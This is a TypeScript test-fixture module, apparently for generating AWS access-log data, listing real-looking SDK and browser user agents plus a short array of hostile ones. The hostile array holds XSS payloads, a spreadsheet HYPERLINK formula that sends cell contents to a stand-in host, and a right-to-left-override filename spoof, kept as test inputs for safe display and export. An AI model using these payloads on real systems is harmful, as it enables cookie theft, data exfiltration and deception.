import type { Random } from './random.ts'

/** Programs of honest callers. */
export const userAgents = {
  cli: 'aws-cli/2.31.4 md/awscrt#0.27.6 ua/2.1 os/linux#6.8.0-71-generic md/arch#x86_64 lang/python#3.13.5 md/pyimpl#CPython m/E,b,G cfg/retry-mode#standard md/installer#exe md/prompt#off md/command#s3.cp',
  cliMac:
    'aws-cli/2.28.1 md/awscrt#0.27.6 ua/2.1 os/macos#25.0.0 md/arch#arm64 lang/python#3.13.7 md/pyimpl#CPython m/G,b cfg/retry-mode#standard md/installer#source',
  python:
    'Boto3/1.40.12 md/Botocore#1.40.12 ua/2.1 os/linux#5.10.240-238.959.amzn2.x86_64 md/arch#x86_64 lang/python#3.11.13 md/pyimpl#CPython m/b,Z cfg/retry-mode#legacy Botocore/1.40.12',
  node: 'aws-sdk-js/3.873.0 ua/2.1 os/linux#5.10.239 lang/js md/nodejs#22.18.0 api/s3#3.873.0 exec-env/AWS_ECS_FARGATE m/E,n',
  lambda:
    'Boto3/1.39.9 md/Botocore#1.39.9 ua/2.1 os/linux#5.10.240 md/arch#aarch64 lang/python#3.13.4 exec-env/AWS_Lambda_python3.13 Botocore/1.39.9',
  java: 'aws-sdk-java/2.32.14 md/io#sync md/http#Apache ua/2.1 os/Linux#5.10.239 lang/java#17.0.16 md/OpenJDK_64-Bit_Server_VM#17.0.16+8-LTS exec-env/AWS_Glue m/D,E',
  spark:
    'ElasticMapReduce/1.0.0 emrfs/s3n, aws-sdk-java/1.12.780 Linux/5.10.239 OpenJDK_64-Bit_Server_VM/17.0.16+8-LTS scala/2.12.18 vendor/Amazon.com_Inc. cfg/retry-mode/standard',
  terraform:
    'APN/1.0 HashiCorp/1.0 Terraform/1.13.1 (+https://www.terraform.io) terraform-provider-aws/6.10.0 aws-sdk-go-v2/1.38.3 ua/2.1 os/linux lang/go#1.24.6 md/GOOS#linux',
  action:
    'aws-sdk-js/3.864.0 configure-aws-credentials-for-github-actions ua/2.1 os/linux#6.11.0-1018-azure lang/js md/nodejs#20.19.4 api/sts#3.864.0',
  macBrowser: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Safari/537.36',
  windowsBrowser:
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36 Edg/140.0.0.0',
  firefox: 'Mozilla/5.0 (X11; Linux x86_64; rv:142.0) Gecko/20100101 Firefox/142.0'
} as const

/** Programs whose names were chosen to hurt whoever displays or exports them. */
export const hostileUserAgents = [
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("https://exfil.example/?q="&A1,"open")',
  'aws-cli/2.9.0 \u202Egnp.nosj.atad\u202C curl/8.5.0'
] as const

const readers = [
  userAgents.macBrowser,
  userAgents.windowsBrowser,
  userAgents.firefox,
  'facebookexternalhit/1.1',
  'curl/8.9.1',
  'Googlebot-Image/1.0'
]

/** Whatever reads public pages. */
export const anyReader = (random: Random): string => random.pick(readers)
